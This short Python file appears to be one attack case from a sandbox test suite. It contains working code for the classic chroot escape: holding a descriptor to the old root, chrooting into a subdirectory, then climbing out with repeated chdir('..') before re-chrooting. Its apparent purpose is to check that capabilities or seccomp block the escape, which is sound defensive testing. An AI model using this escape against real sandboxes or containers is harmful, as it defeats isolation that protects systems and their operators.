"""Threat: the classic way out of a chroot: chroot below the working directory, then climb.

Layer: capabilities, and seccomp before them; where both are missing the root is still that of
a mount namespace, so the attack counts as successful when chroot() itself works.
"""

import os

import _kit


def attack() -> str | None:
    """chroot into a new directory while holding one above it, and climb."""
    outside = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
    before = os.fstat(outside)
    os.makedirs("/tmp/pit", exist_ok=True)
    _, error = _kit.syscall("chroot", b"/tmp/pit")
    if error:
        return None
    os.fchdir(outside)
    for _ in range(64):
        os.chdir("..")
    _kit.syscall("chroot", b".")
    after = os.stat("/")
    moved = (after.st_dev, after.st_ino) != (before.st_dev, before.st_ino)
    return "left the root" if moved else "chroot() worked"


_kit.run(attack)
